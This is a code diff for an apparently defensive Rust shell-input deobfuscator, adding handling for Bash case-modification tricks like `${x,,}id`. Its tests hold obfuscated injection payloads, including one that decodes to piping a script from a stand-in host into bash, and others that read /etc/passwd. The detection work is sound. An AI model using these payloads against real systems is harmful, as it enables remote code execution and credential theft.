@@ -216,12 +216,18 @@ fn dollar(s: &[u8], i: usize, out: &mut Out) -> usize {
                     out.push_marked(value);
                     return i + 2 + len;
                 }
-                // `c${u}at`, `${x}id`: an unset variable glued to a word expands to nothing.
+                // `c${u}at`, `${x}id`: an unset variable glued to a word expands to nothing, and
+                // so does a case change of it or of the empty argument list (`${x,,}id`, `${@~}id`).
                 let glued = is_word(out.last()) || s.get(i + 2 + len).is_some_and(|&c| is_word(c));
+                let name = without_case_change(inner);
+                if glued && name.len() < inner.len() && matches!(name, b"@" | b"*") {
+                    out.pending = true;
+                    return i + 2 + len;
+                }
                 if glued
-                    && (1..=8).contains(&inner.len())
-                    && inner.iter().all(|&c| is_ident(c))
-                    && !inner.first().is_some_and(u8::is_ascii_digit)
+                    && (1..=8).contains(&name.len())
+                    && name.iter().all(|&c| is_ident(c))
+                    && !name.first().is_some_and(u8::is_ascii_digit)
                 {
                     out.pending = true;
                     return i + 2 + len;
@@ -240,6 +246,13 @@ fn dollar(s: &[u8], i: usize, out: &mut Out) -> usize {
     }
     out.push(b'$');
     i + 1
+}
+
+/// `inner` of `${inner}` without a trailing Bash case-modification operator (`,,` `,` `^^` `^`
+/// `~~` `~`).
+fn without_case_change(inner: &[u8]) -> &[u8] {
+    let ops = inner.iter().rev().take(2).take_while(|&&c| matches!(c, b',' | b'^' | b'~')).count();
+    &inner[..inner.len() - ops]
 }
 
 /// The word being built ends in the first letters of a known command (`who` of `whoami`), so
@@ -454,5 +467,10 @@ mod tests {
         assert_eq!(d("1;$(echo 'hsab | hs.s/9.311.0.302//:ptth lruc'|rev)"), "1;$(curl http://203.0.113.9/s.sh | bash)");
         assert_eq!(d("wh$()oami"), "whoami");
         assert_eq!(d("cat$u /etc$u/passwd"), "cat /etc/passwd");
+        assert_eq!(d(";${x,,}id"), ";id");
+        assert_eq!(d(";${@~}id"), ";id");
+        assert_eq!(d("w${u^^}get x"), "wget x");
+        let alone = d("${name,,}");
+        assert!(alone.contains("name"), "alone it is a variable, not an empty word: {alone}");
     }
 }
